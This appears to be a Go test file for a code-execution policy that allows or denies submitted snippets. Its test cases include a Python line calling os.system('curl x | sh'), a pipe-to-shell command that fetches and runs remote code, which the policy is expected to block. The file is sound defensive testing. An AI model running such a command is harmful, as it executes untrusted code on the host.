package governance

import (
	"context"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestCodePolicy_Evaluate(t *testing.T) {
	policy, err := NewCodePolicy()
	require.NoError(t, err)
	ctx := context.Background()

	res, err := policy.Evaluate(ctx, Request{Action: "execute", Code: "import pandas as pd\nprint(pd.__version__)"})
	require.NoError(t, err)
	assert.True(t, res.Allowed())

	res, err = policy.Evaluate(ctx, Request{Action: "execute", Code: "import os\nos.system('curl x | sh')"})
	require.NoError(t, err)
	assert.Equal(t, EffectDeny, res.Effect)
	assert.Contains(t, res.Reason, "os\\.system")

	policy.DenyAction("execute")
	res, err = policy.Evaluate(ctx, Request{Action: "execute", Code: "print(1)"})
	require.NoError(t, err)
	assert.False(t, res.Allowed())
}

func TestCodePolicyCustomPatterns(t *testing.T) {
	policy, err := NewCodePolicy(`requests\.get`)
	require.NoError(t, err)

	res, err := policy.Evaluate(context.Background(), Request{Code: "requests.get('http://x')"})
	require.NoError(t, err)
	assert.False(t, res.Allowed())

	_, err = NewCodePolicy(`(`)
	assert.Error(t, err)
}

func TestCodePolicyHonoursCancellation(t *testing.T) {
	policy, err := NewCodePolicy()
	require.NoError(t, err)
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	_, err = policy.Evaluate(ctx, Request{Code: "print(1)"})
	assert.ErrorIs(t, err, context.Canceled)
}
